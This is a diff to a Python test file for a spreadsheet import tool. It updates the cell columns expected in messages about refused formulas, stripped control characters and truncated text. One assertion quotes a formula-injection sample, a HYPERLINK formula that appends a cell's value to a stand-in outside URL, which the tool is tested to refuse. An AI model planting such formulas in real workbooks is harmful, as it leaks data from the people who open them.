@@ -94,7 +94,7 @@ def test_a_formula_is_refused_at_its_cell_in_both_languages(template, content, t
     assert '案例!B2 Title: the cell holds a formula (=HYPERLINK("http://x/?"&A1,"click")); formulas are neither imported nor calculated; ' \
            "copy the column and use Paste Special → Values" in en.stdout
     assert "案例!E2 Sub-district/town: the cell holds a formula (=1+1)" in en.stdout
-    assert "案例!Z3 Summary: the cell shows the error value #N/A" in en.stdout
+    assert "案例!AB3 Summary: the cell shows the error value #N/A" in en.stdout
     assert "案例!B2 Title: field required" not in en.stdout.replace("Field", "field")  # said once, at the cell
     assert en.stdout.count("案例!B2") == 1
     assert "Traceback" not in zh.stdout + zh.stderr + en.stdout + en.stderr
@@ -130,7 +130,7 @@ def test_control_characters_are_removed_with_a_warning_at_their_cell(template, c
     zh = showcase("import", str(book), "--content", str(content), lang="zh")
     assert zh.returncode == 0, zh.stdout + zh.stderr
     assert "警告 案例!B2 案例名称: 已去掉看不见的控制字符 U+000B (LINE TABULATION), U+0085 (" in zh.stdout
-    assert "案例!Z2 摘要: 已去掉看不见的控制字符 U+009B" in zh.stdout
+    assert "案例!AB2 摘要: 已去掉看不见的控制字符 U+009B" in zh.stdout
     assert "\x9b" not in zh.stdout and "\x85" not in zh.stdout
     path = content / "excellent" / "xuhui-tianlinshiercunmulinzhongxin.yaml"
     text = path.read_text(encoding="utf-8")
@@ -162,7 +162,7 @@ def test_a_text_the_export_had_to_cut_is_not_written_back(template, content, tmp
     before = tree_digest(content)
     result = showcase("import", str(book), "--content", str(content), "--update", lang="en")
     assert result.returncode == 1
-    assert "案例!AB2 Text: this text was cut short by the export (over Excel's cell limit) and is incomplete" in result.stdout
+    assert "案例!AD2 Text: this text was cut short by the export (over Excel's cell limit) and is incomplete" in result.stdout
     assert tree_digest(content) == before
 
 
@@ -286,7 +286,7 @@ def test_typed_text_goes_through_import_and_export_as_typed(template, empty_cont
     result = plan_import(book, collection, content, None)
     if cell_text(texts[8])[1]:  # cut by the workbook writer: the import refuses the cell, nothing else
         assert len(result.problems) == 1
-        assert result.problems[0].format("en").startswith("案例!AB2 Text: this text was cut short by the export")
+        assert result.problems[0].format("en").startswith("案例!AD2 Text: this text was cut short by the export")
         return
     assert not result.problems, [p.format("en") for p in result.problems]
     apply_changes(result.changes)
